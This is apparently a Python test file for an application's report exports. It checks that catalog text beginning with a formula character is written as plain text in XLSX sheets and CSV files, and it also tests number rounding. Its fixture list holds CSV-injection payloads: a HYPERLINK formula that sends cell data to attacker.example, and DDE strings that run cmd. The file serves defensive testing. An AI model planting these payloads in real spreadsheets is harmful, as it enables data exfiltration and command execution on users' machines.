"""Exports that cannot be weaponised (issue 48): catalog text (an admin's or an import's
``source``) that starts like a formula is written as text, never as a live formula, in every
XLSX sheet and CSV file (OWASP, "CSV Injection": cells starting with ``=``, ``+``, ``-``,
``@``, tab or carriage return)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from app.models.answers import Assumption, SourceRef
from app.render import report_tables

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"prices")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _workbook_with(texts: list[str]) -> bytes:
    wb = Workbook()
    report_tables._references(
        wb,
        [Assumption(name="desktop.barebone", value=t, source=t) for t in texts],
        [SourceRef(what=f"offer {i}", source=t, as_of=None) for i, t in enumerate(texts)],
        texts,
    )
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_text_is_stored_as_text_in_every_sheet():
    data = _workbook_with(ATTACKS)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:  # no cell of any sheet holds a formula element
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    wb = load_workbook(io.BytesIO(data))
    for title in ("Assumptions", "Sources", "Warnings"):
        cells = [c for row in wb[title].iter_rows(min_row=2) for c in row]
        shown = {c.value for c in cells if isinstance(c.value, str)}
        # The text as written, for a reader to see (XML keeps no lone carriage return).
        assert {t for t in ATTACKS if "\r" not in t} <= shown
        for c in cells:
            if isinstance(c.value, str) and c.value.lstrip("\t\r\n")[:1] in "=+-@":
                assert c.data_type == "s" and c.quotePrefix


@pytest.mark.parametrize("text", ATTACKS)
def test_a_csv_cell_cannot_start_a_formula(text):
    buf = io.StringIO()
    report_tables._csv_row(
        csv.writer(buf, lineterminator=report_tables.CSV_LINE_END), ["ok", text, 1.5, -2.0]
    )
    row = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row[0] == "ok" and row[1] == "'" + text
    assert row[2:] == ["1.5", "-2.0"]  # numbers stay numbers, negative ones too


def test_report_numbers_are_rounded_for_people():
    """Issue 48: a report printed an assumption as ``0.43274382265093136``. Numbers are
    shown to six significant digits, grouped, without trailing zeros; text stays as is."""
    from app.render.report_html import value_text

    assert value_text(0.43274382265093136) == "0.432744"
    assert value_text(1234567.891) == "1,234,568"
    assert value_text(292.96) == "292.96" and value_text(100.0) == "100"
    assert value_text([0.1 + 0.2, "rtx-3090"]) == "0.3, rtx-3090"
    assert value_text(3) == "3" and value_text("15 %") == "15 %"
